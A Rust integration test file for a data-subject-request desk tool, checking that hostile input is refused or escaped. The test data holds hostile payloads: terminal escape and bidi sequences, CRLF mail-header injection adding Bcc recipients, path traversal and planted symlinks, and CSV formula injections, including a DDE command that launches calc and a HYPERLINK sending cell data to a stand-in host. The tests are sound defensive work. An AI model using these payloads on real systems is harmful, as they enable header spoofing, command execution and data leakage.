//! Hostile and bad input, against the real parts: the real binary on a fresh database, the
//! headless desk for what reaches the screen, a real SMTP server on loopback for what becomes a
//! mail header, the real export for what reaches the disk. Each test says what must never happen.

#[path = "support/smtp.rs"]
mod smtp;

use dsrdesk::config::Config;
use dsrdesk::service::{Desk, Operator};
use dsrdesk::testing::{TestDatabase, fixture_now, fresh_database, load_ledger_fixture, verify_by_bankid};
use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

fn alice() -> Operator {
    Operator::new("alice")
}

fn dsrdesk(db: &TestDatabase, args: &[&str], stdin: Option<&[u8]>, env: &[(&str, &str)]) -> Output {
    let config = tempfile::NamedTempFile::new().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_dsrdesk"))
        .args(args)
        .env("DATABASE_URL", db.url())
        .env("DSRDESK_CONFIG", config.path())
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run dsrdesk");
    if let Some(input) = stdin {
        child.stdin.take().unwrap().write_all(input).unwrap();
    }
    drop(child.stdin.take());
    child.wait_with_output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// No C0 control (but newline), DEL, C1 control or bidi override/isolate in text meant for a
/// terminal: what the desk draws and what the CLI prints.
fn assert_terminal_safe(what: &str, shown: &str) {
    for c in shown.chars() {
        let bad = (c < ' ' && c != '\n')
            || ('\u{7f}'..='\u{9f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{2028}' | '\u{2029}');
        assert!(!bad, "{what}: control character {c:?} reached the terminal:\n{shown}");
    }
}

async fn count(db: &TestDatabase, sql: &'static str) -> i64 {
    sqlx::query_scalar(sql).fetch_one(&db.pool).await.unwrap()
}

const GOOD: &str = r#"{"external_id":"h-1","kind":"access","jurisdiction":"SE","received_at":"2026-11-16T09:00:00+01:00","channel":"email","requester":{"name":"Åsa Öberg","email":"asa@example.se"},"text":"Hej"}"#;

fn line_with(external_id: &str, from: &str, to: &str) -> String {
    GOOD.replace("h-1", external_id).replacen(from, to, 1)
}

#[tokio::test]
async fn intake_refuses_escapes_bidi_nul_and_header_injection_naming_file_line_and_field_and_stores_nothing()
{
    let db = fresh_database().await;
    let lines = [
        GOOD.to_string(),
        line_with("h-2", "Åsa Öberg", r"Åsa \u001b]0;pwned\u0007Öberg"),
        line_with("h-3", "Åsa Öberg", r"Anna\u202egpj.exe"),
        line_with("h-4", "Åsa Öberg", r"Anna\r\nBcc: evil@attacker.example"),
        line_with("h-5", "asa@example.se", r"asa@example.se\r\nBcc: evil@attacker.example"),
        line_with("h-6", "asa@example.se", "Asa <evil@attacker.example>"),
        line_with("h-7", "\"Hej\"", r#""a\u0000b""#),
        line_with(r"h-8\u001b[2J", "Hej", "Hej"),
        GOOD.replace("\"channel\"", r#""\u001b]0;pwned\u0007""#).replace("h-1", "h-9"),
    ];
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("intake.jsonl");
    std::fs::write(&file, lines.join("\n")).unwrap();
    let out = dsrdesk(&db, &["intake", file.to_str().unwrap()], None, &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains(file.to_str().unwrap()), "the file is named: {err}");
    for expected in [
        "line 2: field `requester.name`: contains control characters",
        "line 3: field `requester.name`: contains control characters",
        "line 4: field `requester.name`: contains control characters",
        "line 5: field `requester.email`",
        "line 6: field `requester.email`",
        "line 7: field `text`: contains a NUL character",
        "line 8: field `external_id`: contains control characters",
        "line 9: field `\\x1b]0;pwned\\x07`: unknown field",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
    }
    assert_terminal_safe("intake's error", &err);
    assert_eq!(count(&db, "SELECT count(*) FROM requests").await, 0, "nothing from the file is stored");
    assert_eq!(count(&db, "SELECT count(*) FROM request_events").await, 0);
}

#[tokio::test]
async fn invalid_utf8_in_an_intake_file_is_refused_naming_the_file_and_line_and_stores_nothing() {
    let db = fresh_database().await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("latin1.jsonl");
    // Line 3 was saved as Latin-1: "Öberg" with Ö as the single byte 0xD6.
    let mut bytes = format!("{GOOD}\n{}\n", line_with("h-2", "Hej", "ok")).into_bytes();
    bytes.extend_from_slice(line_with("h-3", "Åsa Öberg", "Asa \u{1}berg").as_bytes());
    let at = bytes.iter().position(|&b| b == 1).unwrap();
    bytes[at] = 0xd6;
    std::fs::write(&file, &bytes).unwrap();
    let out = dsrdesk(&db, &["intake", file.to_str().unwrap()], None, &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains(file.to_str().unwrap()) && err.contains("line 3: not UTF-8"), "{err}");
    assert!(err.contains("\\xd6"), "the offending byte is shown: {err}");
    assert_eq!(count(&db, "SELECT count(*) FROM requests").await, 0, "nothing stored");

    // The same bytes on standard input: named as such.
    let out = dsrdesk(&db, &["intake"], Some(&bytes), &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("standard input") && err.contains("line 3"), "{err}");
    assert_eq!(count(&db, "SELECT count(*) FROM requests").await, 0);
}

#[tokio::test]
async fn a_one_mebibyte_body_is_stored_whole_and_one_byte_more_refuses_the_file_with_the_limit() {
    let db = fresh_database().await;
    let limit = dsrdesk::domain::intake::MAX_TEXT_BYTES;
    // Two-byte characters and an escape sequence (JSON \u001b: one byte once decoded), padded
    // with ASCII to exactly the limit: the limit counts the decoded text's bytes.
    let head = format!("{}\\u001b[2J", "ö".repeat(500));
    let exact = format!("{head}{}", "y".repeat(limit - 1000 - 4));
    let one_mib = line_with("big-1", "\"Hej\"", &format!("\"{exact}\""));
    let small = line_with("small-1", "Hej", "liten");
    let out = dsrdesk(&db, &["intake"], Some(format!("{one_mib}\n{small}\n").as_bytes()), &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (bytes, ends_with_y): (i32, bool) = sqlx::query_as(
        "SELECT octet_length(body), body LIKE '%yyyy' FROM requests WHERE external_id = 'big-1'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert_eq!((bytes as usize, ends_with_y), (limit, true), "the whole body is stored, not a part");

    // One byte more: the whole file is refused, the good line with it, and the limit is named.
    let over = line_with("big-2", "\"Hej\"", &format!("\"{exact}z\""));
    let small = line_with("small-2", "Hej", "liten");
    let out = dsrdesk(&db, &["intake"], Some(format!("{small}\n{over}\n").as_bytes()), &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("line 2: field `text`: 1048577 bytes: the limit is 1048576 bytes (1 MiB)"), "{err}");
    assert_eq!(count(&db, "SELECT count(*) FROM requests").await, 2, "nothing from the refused file");
}

/// A request whose stored text arrived by another road (an old import, psql): intake would have
/// refused it, so it is written here directly, with its event, as such a tool would.
async fn store_hostile(desk: &Desk, reference: &str, column: &'static str, value: &str) {
    let mut tx = desk.pool().begin().await.unwrap();
    sqlx::query(sqlx::AssertSqlSafe(format!("UPDATE requests SET {column} = $2 WHERE reference = $1")))
        .bind(reference)
        .bind(value)
        .execute(&mut *tx)
        .await
        .unwrap();
    sqlx::query(
        "INSERT INTO request_events (request_id, actor, action) SELECT id, 'psql', 'imported' FROM requests WHERE reference = $1",
    )
    .bind(reference)
    .execute(&mut *tx)
    .await
    .unwrap();
    tx.commit().await.unwrap();
}

const HOSTILE_NAME: &str = "Eve \u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}gpj.exe\u{2066} Mallory";

#[tokio::test]
async fn hostile_text_never_reaches_the_screen_or_the_cli_output_as_control_characters() {
    use dsrdesk::tui::headless::Headless;
    use dsrdesk::tui::{Keymap, Settings, Theme};
    let db = fresh_database().await;
    let desk = Desk::new(db.pool.clone(), Config::default());
    let refs = load_ledger_fixture(&desk).await.unwrap();
    let r = refs["fx-access-anna"].clone();
    store_hostile(&desk, &r, "requester_name", HOSTILE_NAME).await;
    // A 1 MiB body full of escape sequences, as a stored request could hold.
    let body = "Hello \u{1b}]8;;http://evil\u{7}link\u{1b}]8;;\u{7} \u{85}\u{202e}txt.exe\r\n".repeat(20_000);
    store_hostile(&desk, &r, "body", &body).await;
    sqlx::query("UPDATE ledger.persons SET first_name = $1 WHERE id = 1")
        .bind(HOSTILE_NAME)
        .execute(&db.pool)
        .await
        .unwrap();
    desk.link(&alice(), &r, Some("1"), fixture_now()).await.unwrap();

    let settings = Settings {
        operator: alice(),
        config: Config::default(),
        read_only: false,
        keymap: Keymap::default(),
        theme: Theme::mono(),
    };
    let mut h = Headless::start(desk.clone(), alice(), settings, fixture_now(), 120, 40).await;
    h.keys(":").await;
    h.type_text(&format!("ref {r}")).await;
    h.keys("enter").await;
    let detail = h.text();
    assert!(detail.contains(&r), "the detail screen is open:\n{detail}");
    assert!(detail.contains("\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m\\u{202e}gpj"), "{detail}");
    assert_terminal_safe("detail", &detail);
    h.keys("i").await;
    let identity = h.text();
    assert!(identity.contains("pwned"), "the identity panel shows the ledger name:\n{identity}");
    assert_terminal_safe("identity panel", &identity);
    h.keys("esc 2").await;
    assert_terminal_safe("queue", &h.text());

    // The command line prints the same text escaped.
    for args in [vec!["show", r.as_str()], vec!["list"], vec!["link", r.as_str()]] {
        let out = dsrdesk(&db, &args, None, &[]);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        let shown = text(&out.stdout);
        assert!(shown.contains("pwned"), "{args:?} shows the name:\n{shown}");
        assert_terminal_safe(&format!("dsrdesk {}", args.join(" ")), &shown);
    }
}

#[tokio::test]
async fn names_and_addresses_never_change_a_mail_header() {
    let db = fresh_database().await;
    let server = smtp::SmtpServer::start();
    let desk = Desk::new(db.pool.clone(), Config::default());
    let intake = [
        line_with(
            "m-1",
            "Åsa Öberg",
            r#"Eve <evil@attacker.example>, \"Mallory\" =?utf-8?q?Bcc:?= evil2@attacker.example"#,
        ),
        line_with("m-2", "Hej", "crlf name"),
        line_with("m-3", "Hej", "crlf address"),
    ]
    .join("\n");
    let refs = desk.intake(&alice(), &intake, fixture_now()).await.unwrap().created;
    // Line breaks can only come from another road; the reply refuses them and nothing is queued.
    store_hostile(&desk, &refs[1], "requester_name", "Anna\r\nBcc: evil@attacker.example").await;
    store_hostile(&desk, &refs[2], "requester_email", "asa@example.se\r\nBcc: evil@attacker.example").await;
    for r in &refs[1..] {
        let out = dsrdesk(&db, &["reply", r, "--template", "acknowledgement"], None, &[]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{r}: {err}");
        assert_terminal_safe("reply's error", &err);
    }
    assert_eq!(count(&db, "SELECT count(*) FROM outbox").await, 0, "nothing queued for the line breaks");
    // The database refuses them too, whatever writes the outbox.
    let direct = sqlx::query(
        "INSERT INTO outbox (request_id, message_id, purpose, language, from_name, from_address, to_name,
             to_address, subject, body, carries_data, next_attempt_at, queued_by, queued_at)
         SELECT id, '<x@example.se>', 'acknowledgement', 'sv', 'DPO', 'dpo@example.se', requester_name,
             'asa@example.se', 'Hej', 'Hej', false, now(), 'psql', now()
         FROM requests WHERE reference = $1",
    )
    .bind(&refs[1])
    .execute(&db.pool)
    .await
    .unwrap_err();
    assert!(direct.to_string().contains("header_material_is_one_line"), "{direct}");

    // A name full of address syntax but no line break is a display name, quoted, and nothing more.
    let out = dsrdesk(&db, &["reply", &refs[0], "--template", "acknowledgement"], None, &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = dsrdesk(&db, &["outbox", "send"], None, &[("DSRDESK_SMTP_URL", &server.url())]);
    assert!(out.status.success(), "{} {}", text(&out.stdout), text(&out.stderr));
    let received = server.received();
    assert_eq!(received.len(), 1);
    assert_eq!(received[0].rcpt_tos, vec!["asa@example.se".to_string()], "the envelope has one recipient");
    let raw = server.raw().remove(0);
    let raw = String::from_utf8_lossy(&raw);
    let head = raw.split("\r\n\r\n").next().unwrap();
    let header_names: Vec<&str> = head
        .lines()
        .filter(|l| !l.starts_with([' ', '\t']))
        .filter_map(|l| l.split_once(':').map(|(n, _)| n))
        .collect();
    assert!(
        !header_names.iter().any(|n| n.eq_ignore_ascii_case("bcc") || n.eq_ignore_ascii_case("cc")),
        "{head}"
    );
    assert_eq!(header_names.iter().filter(|n| n.eq_ignore_ascii_case("to")).count(), 1, "{head}");
    // Python's parser finds exactly one address in To:, the requester's.
    assert!(received[0].to.ends_with("<asa@example.se>"), "{}", received[0].to);
    assert_eq!(
        received[0].to.matches('@').count(),
        3,
        "two in the quoted name, one address: {}",
        received[0].to
    );
}

async fn verified_anna(desk: &Desk, refs: &BTreeMap<String, String>) -> String {
    let r = refs["fx-access-anna"].clone();
    desk.link(&alice(), &r, Some("1"), fixture_now()).await.unwrap();
    verify_by_bankid(desk, &alice(), &r).await;
    r
}

fn all_files(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            out.extend(all_files(&path));
        } else {
            out.push(path.display().to_string());
        }
    }
    out.sort();
    out
}

#[tokio::test]
async fn exports_never_write_outside_the_chosen_directory() {
    let db = fresh_database().await;
    let desk = Desk::new(db.pool.clone(), Config::default());
    let refs = load_ledger_fixture(&desk).await.unwrap();
    let r = verified_anna(&desk, &refs).await;
    let root = tempfile::tempdir().unwrap();
    let out_dir = root.path().join("exports");
    let outside = root.path().join("outside.txt");
    std::fs::write(&outside, "precious").unwrap();

    // A reference with path syntax is not a reference.
    for bad in ["../../etc/passwd", "DSR-2026-000001/../../x", "/tmp/x"] {
        let out = dsrdesk(&db, &["export", bad, "--out", out_dir.to_str().unwrap()], None, &[]);
        assert_eq!(out.status.code(), Some(1), "{bad}: {}", text(&out.stderr));
    }
    // A link planted where the export will be written: refused, the target untouched.
    std::fs::create_dir_all(&out_dir).unwrap();
    let planted = out_dir.join(format!("{r}-portability.zip"));
    std::os::unix::fs::symlink(&outside, &planted).unwrap();
    let dangling = out_dir.join(format!("{r}-access-sv.html"));
    std::os::unix::fs::symlink(root.path().join("created-outside.html"), &dangling).unwrap();
    for format in ["portability", "access"] {
        let out =
            dsrdesk(&db, &["export", &r, "--out", out_dir.to_str().unwrap(), "--format", format], None, &[]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{format}: {err}");
        assert!(err.contains("exists already"), "{err}");
    }
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "precious");
    assert!(!root.path().join("created-outside.html").exists());
    // Without the links: written inside, and nothing anywhere else.
    std::fs::remove_file(&planted).unwrap();
    std::fs::remove_file(&dangling).unwrap();
    let out = dsrdesk(&db, &["export", &r, "--out", out_dir.to_str().unwrap()], None, &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        all_files(root.path()),
        vec![
            out_dir.join(format!("{r}-access-sv.html")).display().to_string(),
            outside.display().to_string()
        ]
    );
}

/// A portable source with free text, for the CSV guard (the reference map's only portable source
/// holds dates and booleans).
const NOTES_SOURCE: &str = r#"

[[source]]
name = "test_notes"
title = "Contact details (test-only portable source)"
category = "Contact details"
purpose = "Testing the CSV guard"
lawful_basis = "contract"
legal_basis = "Test only"
provided_by_subject = true
portable = true
recipients = []
retention = "Test only"
class = "contact"
table = "ledger.contact_details"
key = "id"
restricted_column = "restricted_at"
erase = "delete"
select = """
SELECT d.id::text AS row_id, d.restricted_at IS NOT NULL AS restricted, d.id AS number, d.value
FROM ledger.contact_details d
WHERE d.person_id = $1::bigint
ORDER BY d.id
"""
"#;

#[tokio::test]
async fn csv_cells_of_the_portability_bundle_never_start_a_formula() {
    use dsrdesk::export::{ExportFormat, ExportOptions};
    let db = fresh_database().await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("map.toml"),
        format!("{}{NOTES_SOURCE}", dsrdesk::datamap::REFERENCE_LEDGER_MAP),
    )
    .unwrap();
    std::fs::write(dir.path().join("config.toml"), "data_map = \"map.toml\"\n").unwrap();
    let config = Config::load(Some(&dir.path().join("config.toml"))).unwrap();
    let desk = Desk::new(db.pool.clone(), config);
    let refs = load_ledger_fixture(&desk).await.unwrap();
    let r = verified_anna(&desk, &refs).await;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "Storgatan 1",
    ];
    sqlx::query("DELETE FROM ledger.contact_details WHERE person_id = 1").execute(&db.pool).await.unwrap();
    for (i, value) in hostile.iter().enumerate() {
        sqlx::query(
            "INSERT INTO ledger.contact_details (id, person_id, kind, value, obtained_from, added_on)
             VALUES ($1, 1, 'address', $2, 'test', DATE '2026-01-01')",
        )
        .bind(9000 + i as i64)
        .bind(value)
        .execute(&db.pool)
        .await
        .unwrap();
    }
    let options = ExportOptions { format: ExportFormat::Portability, language: None, encrypt: false };
    let out = tempfile::tempdir().unwrap();
    let outcome = desk.export(&r, &options, out.path(), &alice(), fixture_now()).await.unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&outcome.file.path).unwrap()).unwrap();
    let mut csv_text = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("test_notes.csv").unwrap(), &mut csv_text).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let cells: Vec<(String, String)> =
        reader.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[1].to_string())).collect();
    assert_eq!(cells.len(), hostile.len());
    for ((number, cell), original) in cells.iter().zip(hostile) {
        assert!(number.parse::<i64>().is_ok(), "numbers stay numbers: {number}");
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        if original == "Storgatan 1" {
            assert_eq!(cell, original, "plain text is left alone");
        } else {
            assert_eq!(cell, &format!("'{original}"), "guarded with an apostrophe");
        }
    }
    // The JSON beside it carries the exact values.
    let mut json = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("test_notes.json").unwrap(), &mut json).unwrap();
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let values: Vec<&str> =
        json["rows"].as_array().unwrap().iter().map(|r| r["value"].as_str().unwrap()).collect();
    assert_eq!(values, hostile);
}

/// What the database refuses whatever the client: a role that bypasses dsrdesk (psql as the
/// owner) still cannot skip a state, answer unverified, or rewrite the history.
#[tokio::test]
async fn the_database_enforces_the_state_machine_the_verification_gate_and_the_append_only_history() {
    let db = fresh_database().await;
    let desk = Desk::new(db.pool.clone(), Config::default());
    let refs = desk.intake(&alice(), GOOD, fixture_now()).await.unwrap().created;
    let r = &refs[0];
    /// Run `sql` (binding the reference) with an event beside it, as dsrdesk would; the error.
    async fn refused(db: &TestDatabase, sql: &str, r: &str) -> String {
        let mut tx = db.pool.begin().await.unwrap();
        if let Err(e) = sqlx::query(sqlx::AssertSqlSafe(sql.to_string())).bind(r).execute(&mut *tx).await {
            return e.to_string();
        }
        sqlx::query(
            "INSERT INTO request_events (request_id, actor, action) SELECT id, 'psql', 'x' FROM requests WHERE reference = $1",
        )
        .bind(r)
        .execute(&mut *tx)
        .await
        .unwrap();
        tx.commit().await.map(|_| format!("{sql} was accepted")).unwrap_or_else(|e| e.to_string())
    }
    // Art. 12(6): an access request is not answered before identity is verified.
    let e =
        refused(&db, "UPDATE requests SET status = 'answered', closed_at = now() WHERE reference = $1", r)
            .await;
    assert!(e.contains("identity not verified"), "{e}");
    // The state machine: a closed request stays closed; receipt never changes.
    desk.set_status(
        &alice(),
        r,
        dsrdesk::domain::RequestStatus::Withdrawn,
        Some("asked to"),
        None,
        fixture_now(),
    )
    .await
    .unwrap();
    let e =
        refused(&db, "UPDATE requests SET status = 'new', closed_at = NULL WHERE reference = $1", r).await;
    assert!(e.contains("cannot become"), "{e}");
    let e = refused(
        &db,
        "UPDATE requests SET received_at = received_at - interval '1 day' WHERE reference = $1",
        r,
    )
    .await;
    assert!(e.contains("never change"), "{e}");
    // A change without its event in the history.
    let e = sqlx::query("UPDATE requests SET requester_phone = '1' WHERE reference = $1")
        .bind(r)
        .execute(&db.pool)
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("without an event"), "{e}");
    // The history and the evidence are append-only, even for the owner.
    for sql in [
        "UPDATE request_events SET actor = 'mallory'",
        "DELETE FROM request_events",
        "TRUNCATE request_events",
        "TRUNCATE outbox_attachments",
    ] {
        let e = sqlx::query(sql).execute(&db.pool).await.unwrap_err().to_string();
        assert!(e.contains("not allowed") || e.contains("cannot be deleted"), "{sql}: {e}");
    }
    assert!(count(&db, "SELECT count(*) FROM request_events").await >= 2);
}
